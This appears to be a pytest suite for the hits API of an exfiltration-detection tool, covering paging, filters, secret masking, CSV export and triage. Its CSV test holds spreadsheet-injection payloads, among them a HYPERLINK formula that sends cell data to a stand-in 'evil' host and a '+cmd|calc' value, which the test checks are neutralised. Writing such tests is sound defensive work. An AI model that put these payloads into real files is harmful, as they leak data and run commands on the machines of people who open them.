"""The hits API: filters, sorts and keyset paging that neither repeats nor skips a hit; CSV export; triage."""
import csv
import io
import json
import random

import pytest

from app.web.security import CSRF_NAME

from .conftest import NOW_MS, hit_dict, store_hits

SECRET = "Summer2026!"


def all_pages(client, **params):
    """Walks every page of /api/hits; returns the ids in the order served."""
    ids, cursor = [], None
    while True:
        query = dict(params, limit=params.get("limit", 7))
        if cursor:
            query["cursor"] = cursor
        body = client.get("/api/hits", query_string=query).get_json()
        ids += [h["id"] for h in body["items"]]
        cursor = body["next"]
        if cursor is None:
            return ids


@pytest.fixture
def mixed(store):
    """60 hits with ties and NULLs in every sortable column."""
    rng = random.Random(7)
    hits = []
    for n in range(60):
        hits.append(hit_dict(n, time_ms=NOW_MS - rng.randrange(5) * 1000,
                             risk=rng.choice([None, 10, 50, 90]), tool=rng.choice([None, "rclone", "pscp"]),
                             destination=rng.choice([None, "a.example", "b.example"]),
                             username=rng.choice([None, "CORP\\alice", "CORP\\bob"]),
                             source_ip=rng.choice(["10.0.0.1", "10.0.0.2"])))
    store_hits(store, hits)
    return {h["id"]: h for h in store.hits.list(suppressed=None, limit=1000)}


@pytest.mark.parametrize("sort,key", [("time", "event_time_ms"), ("risk", "risk_score"), ("tool", "tool"),
                                      ("user", "username"), ("destination", "destination"), ("host", "source_ip"),
                                      ("rule", "rule_id"), ("status", "status")])
@pytest.mark.parametrize("order", ["desc", "asc"])
def test_keyset_paging_serves_every_hit_once_in_sort_order(client, mixed, sort, key, order):
    ids = all_pages(client, sort=sort, order=order)
    assert sorted(ids) == sorted(mixed), "a hit was repeated or skipped"

    def rank(hit):   # SQLite's order: NULL lowest
        value = hit[key]
        return (value is not None, value if value is not None else 0, hit["event_time_ms"], hit["id"])
    expected = sorted(mixed.values(), key=rank, reverse=(order == "desc"))
    assert ids == [h["id"] for h in expected]


def test_filters_narrow_the_set(client, store):
    store_hits(store, [
        hit_dict(1, tool="rclone", destination="mega.example", risk=90, username="CORP\\alice", source_ip="10.0.0.1"),
        hit_dict(2, tool="pscp", destination="203.0.113.9", risk=20, username="CORP\\bob", source_ip="10.0.0.2",
                 host_name="WS-BOB"),
        hit_dict(3, tool="pscp", destination="mega.example", risk=60, suppressed=True),
        hit_dict(4, rule_id="t1048-002-staging-signals", tool="rclone", time_ms=NOW_MS - 10 * 86_400_000),
    ])
    store_hits(store, [hit_dict(5, rule_id="t1048-002-staging-signals", tool="curl")], "t1048-002-staging-signals")

    def ids(**params):
        return sorted(h["id"] for h in client.get("/api/hits", query_string=params).get_json()["items"])
    everything = ids(suppressed="all")
    assert len(everything) == 5
    assert len(ids()) == 4                                    # suppressed hidden by default
    assert len(ids(suppressed="true")) == 1
    assert len(ids(tool="PSCP")) == 1                         # case-insensitive, suppressed one hidden
    assert len(ids(tool="pscp", suppressed="all")) == 2
    assert len(ids(destination="mega.example")) == 1
    assert len(ids(destination="198.51.100.7")) == 4          # by IP too (every hit connects there)
    assert len(ids(host="WS-BOB")) == 1 and ids(host="WS-BOB") == ids(host="10.0.0.2")
    assert len(ids(user="corp\\ALICE")) == 3
    assert len(ids(risk_min=50, risk_max=95)) == 3
    assert len(ids(severity="low")) == 2                      # staging-signals is the low-severity rule
    assert len(ids(rule="t1048-002-rclone")) == 2
    assert len(ids(since=NOW_MS - 86_400_000)) == 3
    assert len(ids(q="data2 remote")) == 1


def test_text_search_reads_the_masked_command_line_only(client, store):
    line = f"pscp.exe -pw {SECRET} C:\\x.zip u@198.51.100.1:/d"
    store_hits(store, [hit_dict(1, command_line=line, masked=line.replace(SECRET, "********"))])
    assert client.get("/api/hits", query_string={"q": "-pw Summer"}).get_json()["items"] == []
    assert len(client.get("/api/hits", query_string={"q": "-pw ****"}).get_json()["items"]) == 1


def test_like_wildcards_in_the_search_are_literal(client, store):
    store_hits(store, [hit_dict(1, command_line="copy a_b"), hit_dict(2, command_line="copy axb")])
    assert len(client.get("/api/hits", query_string={"q": "a_b"}).get_json()["items"]) == 1
    assert len(client.get("/api/hits", query_string={"q": "%"}).get_json()["items"]) == 0


@pytest.mark.parametrize("query,word", [({"limit": "x"}, "limit"), ({"sort": "payload"}, "sort"),
                                        ({"risk_min": "101"}, "risk_min"), ({"suppressed": "maybe"}, "suppressed"),
                                        ({"rule": "no-such-rule"}, "rule"), ({"status": "closed"}, "status"),
                                        ({"cursor": "garbage!!"}, "cursor"), ({"q": "x" * 201}, "q")])
def test_bad_parameters_are_clear_400s(client, query, word):
    response = client.get("/api/hits", query_string=query)
    assert response.status_code == 400 and word in response.get_json()["error"]


def test_a_cursor_of_another_sort_is_refused(client, mixed):
    cursor = client.get("/api/hits", query_string={"limit": 5}).get_json()["next"]
    response = client.get("/api/hits", query_string={"limit": 5, "cursor": cursor, "sort": "risk"})
    assert response.status_code == 400 and "cursor" in response.get_json()["error"]


def test_a_deep_page_costs_what_the_first_page_costs(store):
    """Keyset paging: the work of reading page N does not grow with N (counted in SQLite VM steps)."""
    store_hits(store, [hit_dict(n, tool=("rclone", "pscp")[n % 2]) for n in range(8_000)])
    from app.store.hit_query import HitFilter

    def steps(flt, sort, cursor):
        counter = [0]
        conn = store.db.connection()
        conn.set_progress_handler(lambda: counter.__setitem__(0, counter[0] + 1) or 0, 100)
        try:
            _, next_cursor = store.hits.page(flt, sort=sort, cursor=cursor, limit=50)
        finally:
            conn.set_progress_handler(None, 100)
        return counter[0], next_cursor

    for flt, sort in ((HitFilter(), "time"), (HitFilter(tool="pscp"), "time"), (HitFilter(), "risk"),
                      (HitFilter(), "tool")):
        first, _ = steps(flt, sort, None)
        deep_cursor = None
        for _ in range(70):   # 3,500 hits in
            _, deep_cursor = store.hits.page(flt, sort=sort, cursor=deep_cursor, limit=50)
        deep, _ = steps(flt, sort, deep_cursor)
        assert deep <= 3 * first + 50, (sort, first, deep)


def test_csv_exports_the_filtered_set_masked_and_inert(client, store):
    hostile = f'=HYPERLINK("http://evil/?"&A1) -pw {SECRET}'
    store_hits(store, [
        hit_dict(1, command_line=hostile, masked=hostile.replace(SECRET, "********"), username="+cmd|calc",
                 tool="@SUM(1)", destination="-2+3"),
        hit_dict(2, tool="pscp", username="\tTAB"),
        hit_dict(3, tool="other"),
    ])
    response = client.get("/api/hits.csv", query_string={"tool": "@SUM(1)"})
    assert response.status_code == 200 and response.mimetype == "text/csv"
    assert "attachment" in response.headers["Content-Disposition"]
    text = response.get_data(as_text=True)
    assert SECRET not in text
    rows = list(csv.DictReader(io.StringIO(text)))
    assert len(rows) == 1
    row = rows[0]
    assert row["command_line"].startswith("'=HYPERLINK") and "-pw ********" in row["command_line"]
    assert row["username"] == "'+cmd|calc" and row["tool"] == "'@SUM(1)" and row["destination"] == "'-2+3"
    assert row["risk_score"] == "50"        # numbers of our own are not touched
    tab_rows = list(csv.DictReader(io.StringIO(client.get("/api/hits.csv", query_string={"tool": "pscp"}).get_data(as_text=True))))
    assert tab_rows[0]["username"] == "'\tTAB"


def test_csv_of_many_hits_streams_every_one(client, store):
    store_hits(store, [hit_dict(n) for n in range(2500)])
    response = client.get("/api/hits.csv")
    assert response.is_streamed
    assert len(list(csv.DictReader(io.StringIO(response.get_data(as_text=True))))) == 2500


def _csrf(client):
    client.set_cookie(CSRF_NAME, "tok")
    return {CSRF_NAME: "tok"}


def test_triage_is_stored_with_who_and_when_and_shown_on_the_hit(client, store, web):
    store_hits(store, [hit_dict(1)])
    (hit_id,) = [h["id"] for h in store.hits.list()]
    headers = _csrf(client)
    response = client.post(f"/api/hits/{hit_id}/triage", json={"action": "acknowledge"}, headers=headers)
    assert response.status_code == 200
    web.now_ms += 60_000
    detail = client.post(f"/api/hits/{hit_id}/triage", json={"action": "escalate", "reason": "data left"},
                         headers=headers).get_json()
    assert detail["status"] == "escalated" and detail["triage_by"] == "local" and detail["triage_ms"] == NOW_MS + 60_000
    assert [(t["action"], t["actor"], t["at_ms"]) for t in detail["triage_history"]] == [
        ("acknowledged", "local", NOW_MS), ("escalated", "local", NOW_MS + 60_000)]
    row = client.get("/api/hits", query_string={"status": "escalated"}).get_json()["items"]
    assert [h["id"] for h in row] == [hit_id] and row[0]["triage_by"] == "local"


def test_false_positive_needs_a_reason(client, store):
    store_hits(store, [hit_dict(1)])
    (hit_id,) = [h["id"] for h in store.hits.list()]
    headers = _csrf(client)
    response = client.post(f"/api/hits/{hit_id}/triage", json={"action": "false_positive"}, headers=headers)
    assert response.status_code == 400 and "reason" in response.get_json()["error"]
    assert store.hits.get(hit_id)["status"] == "new"
    ok = client.post(f"/api/hits/{hit_id}/triage", json={"action": "false_positive", "reason": "IT backup job"},
                     headers=headers)
    assert ok.get_json()["status"] == "false_positive" and ok.get_json()["triage_reason"] == "IT backup job"


def test_triage_without_the_csrf_header_changes_nothing(client, store):
    store_hits(store, [hit_dict(1)])
    (hit_id,) = [h["id"] for h in store.hits.list()]
    client.set_cookie(CSRF_NAME, "tok")
    assert client.post(f"/api/hits/{hit_id}/triage", json={"action": "escalate"}).status_code == 403
    assert store.hits.get(hit_id)["status"] == "new" and store.hits.triage_history(hit_id) == []


def test_triage_of_a_missing_hit_or_a_bad_action(client, store):
    headers = _csrf(client)
    assert client.post("/api/hits/999/triage", json={"action": "escalate"}, headers=headers).status_code == 404
    store_hits(store, [hit_dict(1)])
    (hit_id,) = [h["id"] for h in store.hits.list()]
    response = client.post(f"/api/hits/{hit_id}/triage", json={"action": "delete"}, headers=headers)
    assert response.status_code == 400 and "action" in response.get_json()["error"]
    assert client.post(f"/api/hits/{hit_id}/triage", data="not json", headers=headers).status_code == 400


def test_detail_carries_guide_related_hits_pivot_and_masks(client, store):
    line = f"pscp.exe -pw {SECRET} C:\\x.zip u@198.51.100.1:/d"
    store_hits(store, [hit_dict(1, command_line=line, masked=line.replace(SECRET, "********"), process_guid="{G}"),
                       hit_dict(2, process_guid="{G}", event_id="3")])
    first = min(h["id"] for h in store.hits.list())
    detail = client.get(f"/api/hits/{first}").get_json()
    assert SECRET not in json.dumps(detail)
    assert detail["rule"]["guide"]["triage"] and detail["rule"]["guide"]["false_positives"]
    assert [h["id"] for h in detail["same_process"]] == [first + 1]
    assert "sourceip = '10.0.0.1'" in detail["pivot"]["aql"] and detail["pivot"]["url"].startswith("/console/")
    assert client.get("/api/hits/424242").status_code == 404


def test_hits_stored_before_the_browse_columns_are_backfilled(tmp_path):
    """An upgraded store: rows written without the browse columns get them when the store opens."""
    from app.store import Store
    path = tmp_path / "old.db"
    store = Store(path)
    store_hits(store, [hit_dict(1, tool="pscp")])
    store.db.connection().execute("UPDATE hits SET tool = NULL, facets_version = 0")
    store.db.connection().commit()
    store.close()
    reopened = Store(path)
    try:
        assert reopened.hits.list()[0]["tool"] == "pscp"
    finally:
        reopened.close()


@pytest.mark.parametrize("sort", ["time", "risk", "rule", "host", "user", "tool", "destination", "status"])
@pytest.mark.parametrize("filters", [{}, {"tool": "pscp"}, {"rule_ids": ["t1048-002-rclone"]}, {"host": "10.0.0.2"},
                                     {"host": "WS-BOB"},
                                     {"rule_ids": ["t1048-002-rclone", "t1048-002-seed"], "risk_min": 50,
                                      "suppressed": None, "statuses": ["new"], "text": "x"}])
def test_no_page_sorts_its_matches_in_memory(store, sort, filters):
    """Every page walks an index in sort order: the query plan has no temporary sort (which would read and
    sort every matching hit, a million on a big store, for each page)."""
    from app.store.hit_query import NULLABLE, SORTS, HitFilter, _segments, order_by
    column = SORTS[sort]
    where, params = HitFilter(**filters).where(column)
    for descending in (True, False):
        for after in (None, (5, 1, 1)) + (((None, 1, 1),) if column in NULLABLE else ()):
            for segment, seg_params in _segments(column, descending, after):
                plan = " | ".join(r["detail"] for r in store.db.query(
                    f"EXPLAIN QUERY PLAN SELECT * FROM hits WHERE {where} AND {segment} "
                    f"ORDER BY {order_by(column, descending)} LIMIT 51", (*params, *seg_params)))
                assert "TEMP B-TREE" not in plan, plan
